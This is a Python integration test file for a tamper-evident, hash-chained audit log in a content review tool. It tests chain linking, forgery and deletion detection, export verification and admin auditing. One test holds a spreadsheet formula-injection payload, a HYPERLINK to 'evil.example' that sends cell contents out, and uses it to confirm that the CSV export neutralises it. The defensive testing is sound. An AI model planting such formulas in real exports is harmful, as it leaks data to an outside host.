"""The hash-chained audit trail: concurrent appends, tamper detection, export, CLI."""

from __future__ import annotations

import io
import json
import threading
import uuid

import pytest

from harmwatch.search import es_client
from review_ui import audit
from review_ui.cli import audit_verify
from review_ui.indices import audit_alias, ensure_audit_indices
from tests.ui_support import login, new_user, seed_one, ui_client

pytestmark = pytest.mark.integration


@pytest.fixture()
def chain(services):
    """A fresh, empty audit chain on its own index prefix (tampering must not leak)."""
    settings = services.model_copy(update={
        "es_index_prefix": f"{services.es_index_prefix}-chain-{uuid.uuid4().hex[:8]}"})
    client = es_client(settings)
    ensure_audit_indices(client, settings)
    return client, settings


def _append(client, settings, n, who="alice"):
    actor = audit.Actor(who, "analyst", "127.0.0.1", "pytest")
    return [audit.record(client, settings, actor, "item_view", f"item-{i}", {"i": i})
            for i in range(n)]


def test_records_link_by_hash(chain):
    client, settings = chain
    records = _append(client, settings, 3)
    assert [r["seq"] for r in records] == [1, 2, 3]
    assert records[0]["prev_hash"] == audit.GENESIS_HASH
    assert records[1]["prev_hash"] == records[0]["hash"]
    assert audit.record_hash(records[2]) == records[2]["hash"]
    assert audit.verify(client, settings).ok


def test_concurrent_writers_never_fork_the_chain(chain):
    client, settings = chain
    threads = [threading.Thread(target=_append, args=(client, settings, 5, f"u{i}"))
               for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    result = audit.verify(client, settings)
    assert result.ok and result.checked == 30


def test_an_edited_record_is_named(chain):
    client, settings = chain
    records = _append(client, settings, 5)
    client.index(index=audit_alias(settings), id=audit.doc_id(3), refresh=True,
                 document={**records[2], "actor": "mallory"})
    result = audit.verify(client, settings)
    assert not result.ok and result.broken_seq == 3 and "edited" in result.reason


def test_a_removed_record_is_named(chain):
    client, settings = chain
    _append(client, settings, 5)
    client.delete(index=audit_alias(settings), id=audit.doc_id(2), refresh=True)
    result = audit.verify(client, settings)
    assert not result.ok and result.broken_seq == 2 and "missing" in result.reason


def test_a_rewritten_chain_still_breaks_at_the_edit(chain):
    """Recomputing an edited record's own hash does not help: the next link breaks."""
    client, settings = chain
    records = _append(client, settings, 4)
    forged = {**records[1], "details": {"i": 99}}
    forged["hash"] = audit.record_hash(forged)
    client.index(index=audit_alias(settings), id=audit.doc_id(2), refresh=True, document=forged)
    result = audit.verify(client, settings)
    assert not result.ok and result.broken_seq == 3 and "prev_hash" in result.reason


def test_a_truncated_tail_is_detected(chain):
    client, settings = chain
    _append(client, settings, 4)
    client.delete(index=audit_alias(settings), id=audit.doc_id(4), refresh=True)
    result = audit.verify(client, settings)
    assert not result.ok and result.broken_seq == 4


def test_export_verifies_offline_and_detects_edits(chain):
    client, settings = chain
    _append(client, settings, 3)
    lines = list(audit.export_lines(client, settings, "jsonl"))
    assert audit.verify_lines(iter(lines)).ok
    edited = json.loads(lines[1])
    edited["target"] = "something-else"
    lines[1] = json.dumps(edited) + "\n"
    result = audit.verify_lines(iter(lines))
    assert not result.ok and result.broken_seq == 2
    csv_lines = list(audit.export_lines(client, settings, "csv"))
    assert csv_lines[0].startswith("seq,at,actor") and len(csv_lines) == 4


def test_cli_verify_exit_codes(chain, tmp_path, capsys):
    client, settings = chain
    _append(client, settings, 2)
    path = tmp_path / "audit.jsonl"
    path.write_text("".join(audit.export_lines(client, settings, "jsonl")))
    args = type("Args", (), {"file": path})()
    assert audit_verify(args) == 0
    path.write_text(path.read_text().replace('"alice"', '"bob"', 1))
    assert audit_verify(args) == 1
    assert "BROKEN at record 1" in capsys.readouterr().out


def test_user_actions_are_audited_with_who_and_where(services):
    item = seed_one(services)
    with ui_client(services) as client:
        username = new_user(services, "analyst")
        csrf = login(client, username)
        client.get(f"/items/{item['item_id']}")
        client.post(f"/api/items/{item['item_id']}/claim", headers={"X-CSRF-Token": csrf})
        client.post(f"/api/items/{item['item_id']}/decision", headers={"X-CSRF-Token": csrf},
                    json={"action": "escalate", "note": "needs police"})
        es = client.app.state.es
        es.indices.refresh(index=audit_alias(services))
        mine = audit.search_records(es, services, actor=username)
        actions = [r["action"] for r in reversed(mine)]
        assert actions == ["login", "item_view", "claim", "decision"]
        decision = mine[0]
        assert decision["target"] == item["item_id"] and decision["ip"] == "testclient"
        assert decision["details"]["status"] == "escalated"
        assert audit.verify(es, services).ok


def test_admins_browse_filter_and_export(services):
    with ui_client(services) as client:
        analyst = new_user(services, "analyst")
        login(client, analyst)
        client.cookies.clear()
        login(client, new_user(services, "admin"))
        client.app.state.es.indices.refresh(index=audit_alias(services))
        page = client.get(f"/audit?actor={analyst}")
        assert page.status_code == 200 and f"<td><bdi>{analyst}</bdi></td>" in page.text
        verified = client.get("/audit?verify=1")
        assert 'id="verify-result"' in verified.text and "intact" in verified.text
        export = client.get("/audit/export?fmt=jsonl")
        assert export.headers["content-disposition"].startswith("attachment")
        assert audit.verify_lines(io.StringIO(export.text)).ok
        assert client.get("/api/audit/verify").json()["ok"]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def test_audit_csv_does_not_run_a_formula_typed_at_the_login_form(services):
    """Issue 18.4: an anonymous login attempt's username must not become a live formula
    in the admin's audit CSV."""
    import csv

    from tests.ui_support import login_token

    with ui_client(services) as client:
        client.post("/login", data={"username": FORMULA, "password": "whatever-wrong",
                                    "csrf_token": login_token(client)})
        login(client, new_user(services, "admin"))
        rows = list(csv.reader(io.StringIO(client.get("/audit/export?fmt=csv").text)))
    mine = [row for row in rows if FORMULA.lower() in "".join(row)]
    assert mine, "the attempt is in the export"
    for row in mine:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
        assert "'" + FORMULA.lower() in row


def test_every_csv_writer_goes_through_the_one_neutraliser():
    """New CSV writers must use harmwatch.csvcells.SafeWriter, not the csv module's own."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(root)) for folder in ("harmwatch", "review_ui",
                                                            "classifiers", "consumers", "crawlers")
                 for path in (root / folder).rglob("*.py")
                 if writers.search(path.read_text()) and path.name != "csvcells.py"]
    assert offenders == []
